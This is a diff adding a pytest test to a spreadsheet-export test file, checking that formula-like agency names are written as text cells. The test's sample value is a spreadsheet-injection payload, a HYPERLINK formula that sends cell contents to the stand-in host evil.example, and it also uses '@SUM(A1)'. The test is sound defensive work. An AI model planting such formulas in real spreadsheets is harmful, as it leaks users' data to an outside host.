@@ -8,6 +8,7 @@ orders and counts are computed from the stored Result rows, never typed in.
 from __future__ import annotations
 
 import re
+import zipfile
 from io import BytesIO
 from typing import Any
 
@@ -299,3 +300,16 @@ def test_the_pages_in_turn_list_the_agencies_in_the_exports_order(
 def test_the_export_holds_only_the_coordinators_agencies(client_as, users, role, codes):
     rows = list(load_workbook(BytesIO(client_as(role).get(EXPORT).content)).active.values)
     assert [row[0] for row in rows[1:]] == codes
+
+
+def test_the_export_writes_formula_like_names_as_text(client_as, khambong):
+    """A name such as =HYPERLINK(…) is a text cell in the workbook, never a formula."""
+    hostile = '=HYPERLINK("https://evil.example/?c="&A2&B2,"คะแนน")'
+    Agency.objects.filter(pk=khambong.pk).update(name=hostile, district="@SUM(A1)")
+    response = client_as("coordinator").get(EXPORT)
+    with zipfile.ZipFile(BytesIO(response.content)) as zf:
+        assert "<f>" not in zf.read("xl/worksheets/sheet1.xml").decode()
+    rows = list(load_workbook(BytesIO(response.content)).active.values)
+    row = next(row for row in rows if row[0] == "khambong")
+    assert row[1] == hostile and row[4] == "@SUM(A1)"
+    assert isinstance(row[7], float)
